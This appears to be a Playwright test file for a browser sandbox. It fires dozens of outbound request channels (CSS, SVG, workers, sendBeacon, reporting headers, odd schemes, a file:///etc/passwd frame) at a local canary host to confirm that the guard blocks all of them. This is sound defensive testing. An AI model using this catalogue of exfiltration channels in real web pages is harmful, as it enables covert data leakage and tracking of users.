import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { setTimeout as wait } from 'node:timers/promises';
import type { SiteContent } from '@palisade/lab/site';
import { chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { browserOrSkip, found, openIn, startLab, type Lab } from '../../test/lab-browser.ts';

/** Outside the ranges of the lab's policy. */
const CANARY = '127.66.13.8';
const AT = `http://${CANARY}:8080`;

/** Ways out through markup, styles and headers, and while leaving the page; each requests its own path. */
const MARKUP = `<!doctype html><title>t</title>
<link rel="icon" href="${AT}/icon"><link rel="manifest" href="${AT}/manifest" crossorigin="anonymous">
<link rel="stylesheet" href="${AT}/sheet"><style>@import url(${AT}/import); @font-face{font-family:F;src:url(${AT}/font)}
body{background:url(${AT}/background);font-family:F;list-style-image:url(${AT}/marker)} li::before{content:url(${AT}/content)}</style>
<body>text<li>li</li>
<svg><image href="${AT}/svg-image" width="9" height="9"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${AT}/foreign"/></foreignObject><filter id="f"><feImage href="${AT}/filter"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
<video src="${AT}/video" poster="${AT}/poster"></video><audio src="${AT}/audio" preload="auto"></audio>
<object data="${AT}/object"></object><embed src="${AT}/embed"><picture><source srcset="${AT}/srcset"><img src="data:,"></picture>
<input type="image" src="${AT}/input"><iframe srcdoc="<meta http-equiv=refresh content='0;url=${AT}/refresh'>"></iframe>
<a id="ping" href="#x" ping="${AT}/ping">x</a>
<script src="${AT}/script"></script>`;

const SCRIPT = `(async () => {
  document.getElementById('ping').click();
  new EventSource('${AT}/events');
  fetch('${AT}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => 0);
  const request = new XMLHttpRequest(); request.open('GET', '${AT}/xhr'); request.onerror = () => 0; request.send();
  new Worker(URL.createObjectURL(new Blob(["fetch('${AT}/from-worker',{mode:'no-cors'}).catch(()=>0);try{importScripts('${AT}/imported')}catch{}"])));
  new Image().src = '${AT}/image';
  import('${AT}/module').catch(() => 0);
  const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: '${AT}/form', target: 'sink' }));
  document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' })); form.submit();
  for (const address of ['ftp://${CANARY}:8080/', 'view-source:${AT}/source', 'file:///etc/passwd', 'palisade-x://${CANARY}:8080/', 'mailto:a@${CANARY}', 'filesystem:${AT}/temporary/x'])
    document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
  try { document.body.append(Object.assign(document.createElement('portal'), { src: '${AT}/portal' })); } catch {}
  addEventListener('pagehide', () => { navigator.sendBeacon('${AT}/on-leaving', 'x'); fetch('${AT}/keepalive-on-leaving', { keepalive: true, method: 'POST', mode: 'no-cors' }); });
  const sheet = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${AT}/xslt"?><a/>';
  document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob([sheet], { type: 'text/xml' })) }));
  try { await (await navigator.serviceWorker.ready).pushManager?.subscribe({ userVisibleOnly: true }); } catch {}
})()`;

/** What an ordinary browser requests from the canary: a test that sees none of it proves nothing. */
const WAYS =
  'icon sheet import font background marker content svg-image foreign filter video poster audio object embed srcset input refresh ping script events keepalive xhr from-worker imported image module form csp on-leaving keepalive-on-leaving xslt manifest'.split(
    ' ',
  );

const REPORTS: [string, string][] = [
  ['content-security-policy-report-only', `img-src 'none'; report-uri ${AT}/csp`],
  ['reporting-endpoints', `all="${AT}/reporting"`],
  ['report-to', JSON.stringify({ group: 'all', max_age: 9, endpoints: [{ url: `${AT}/report-to` }] })],
  ['nel', JSON.stringify({ report_to: 'all', max_age: 9, success_fraction: 1, failure_fraction: 1 })],
  ['link', `<${AT}/link-preload>; rel=preload; as=image, <${AT}>; rel=preconnect`],
];

describe.skipIf(!browserOrSkip())('ways out through markup, styles and headers', () => {
  let lab: Lab;
  let canary: Server;
  const paths = new Set<string>();
  let connections = 0;
  const content: SiteContent = { headers: [['content-type', 'text/html'], ...REPORTS], body: MARKUP };
  beforeAll(async () => {
    canary = createServer(({ url = '' }, answer) => {
      paths.add(url.split(/[/?]/u)[1] ?? '');
      for (const [name, value] of REPORTS) answer.setHeader(name, value);
      answer.setHeader('content-type', url === '/' ? 'text/html' : 'text/plain');
      answer.end(url === '/' ? MARKUP : '');
    });
    canary.on('connection', () => (connections += 1));
    canary.listen(8080, CANARY);
    await once(canary, 'listening');
    lab = await startLab({ sites: [{ host: 'page.test', https: content, http: content }] });
  });
  afterAll(async () => {
    await lab.close();
    canary.closeAllConnections();
    canary.close();
  });

  const unseen = (ways: readonly string[]) => ways.filter((way) => !paths.has(way));
  /** @param until the ways to wait for: a busy machine takes longer; otherwise a fixed time */
  const tryAll = async (page: Page, url: string, until: readonly string[] = []): Promise<void> => {
    await page.goto(url, { waitUntil: 'domcontentloaded' });
    await page.evaluate(`void ${SCRIPT}`);
    // Only requested to install a page, for example.
    await (await page.context().newCDPSession(page)).send('Page.getAppManifest').catch(() => undefined);
    await wait(2_500);
    const before = until.filter((way) => !way.endsWith('on-leaving'));
    await vi.waitFor(() => expect(unseen(before)).toEqual([]), { timeout: 60_000 });
    await page.goto('about:blank');
    await wait(700);
    await vi.waitFor(() => expect(unseen(until)).toEqual([]), { timeout: 60_000 });
  };

  it('reach nothing: by markup, styles, reports, odd schemes, and as the page is left', async () => {
    const session = await openIn(lab, lab.url('page.test'));
    await tryAll(session.page, lab.url('page.test'));
    const open = await session.fresh();
    await tryAll(open.page, lab.site('page.test').httpUrl());
    expect(open.refused().length).toBeGreaterThan(0);
    await session.close();
    expect({ connections, paths: [...paths] }).toEqual({ connections: 0, paths: [] });
  });

  it('would reach the canary in a browser without our guard and flags', { timeout: 120_000 }, async () => {
    if (!found) throw new Error('no browser');
    const browser = await chromium.launch({
      executablePath: found.executable,
      env: { ...process.env, ...found.env },
      args: [
        '--no-sandbox',
        '--disable-features=LocalNetworkAccessChecks',
        '--autoplay-policy=no-user-gesture-required',
      ],
    });
    const { product } = await (await browser.newBrowserCDPSession()).send('Browser.getVersion');
    // The headless shell shows no icons and requests none.
    const ways = product.startsWith('Headless') ? WAYS.filter((way) => way !== 'icon') : WAYS;
    try {
      await tryAll(await browser.newPage(), `${AT}/`, ways);
    } finally {
      await browser.close();
    }
    expect(unseen(ways)).toEqual([]);
  });
});
